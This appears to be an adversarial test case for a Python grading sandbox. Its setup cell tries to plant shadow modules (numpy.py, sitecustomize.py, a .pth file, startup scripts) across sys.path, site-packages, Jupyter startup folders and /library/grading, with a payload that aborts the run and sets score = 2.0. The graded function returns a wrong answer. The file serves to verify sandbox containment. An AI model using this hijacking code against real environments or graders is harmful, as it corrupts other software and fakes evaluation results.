# Writes numpy.py, nnlib.py, usercustomize.py, .pth and start-up files wherever Python might look.
# never: OUTSIDE
# %% before
import os
import site
import sys

evil = "raise SystemExit('owned')\nscore = 2.0\n"
folders = {*sys.path, os.getcwd(), site.getusersitepackages(), "/library", "/library/nnlib", "/library/grading",
           os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.jupyter"), sys.prefix, "/usr/lib"}
for folder in folders:
    for name in ("numpy.py", "nnlib.py", "usercustomize.py", "sitecustomize.py", "evil.pth", "00.py", "candidate.py"):
        try:
            os.makedirs(folder or ".", exist_ok=True)
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write(evil)
            own = os.path.abspath(folder).startswith(("/tmp", "/dev/shm"))
            print("wrote", name if own else "OUTSIDE " + folder)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"
# %% square
def square(x):
    return 0.0
